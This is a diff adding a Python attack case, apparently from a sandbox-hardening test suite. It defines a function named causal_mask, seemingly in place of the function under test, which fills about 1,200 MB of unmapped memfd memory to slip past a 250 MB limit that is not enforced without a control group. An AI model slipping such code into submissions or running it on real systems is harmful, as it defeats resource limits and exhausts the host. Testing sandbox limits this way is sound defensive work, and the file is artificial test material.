@@ -1,0 +1,27 @@
+"""Fills memory that belongs to no process's own pages: memfd files that are written but never mapped.
+
+levels: bubblewrap user
+memory_mb: 250
+checks: test_the_mask_fits_every_length
+gap: memory that no process maps is not counted without a control group
+outcomes: out_of_memory failed
+"""
+
+import os
+import time
+
+if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
+    raise SystemExit("this attack runs inside a sandbox only")
+
+kept = []
+
+
+def causal_mask(*args, **kwargs):
+    for _ in range(24):  # 1,200 MB, no more, should no limit hold
+        descriptor = os.memfd_create("x")
+        kept.append(descriptor)
+        for _ in range(50):
+            os.write(descriptor, b"x" * 2**20)
+    time.sleep(0.2)
+    size = sum(os.fstat(descriptor).st_blocks * 512 for descriptor in kept)
+    print(f"LOOT: {size >> 20} MB where 250 are allowed")
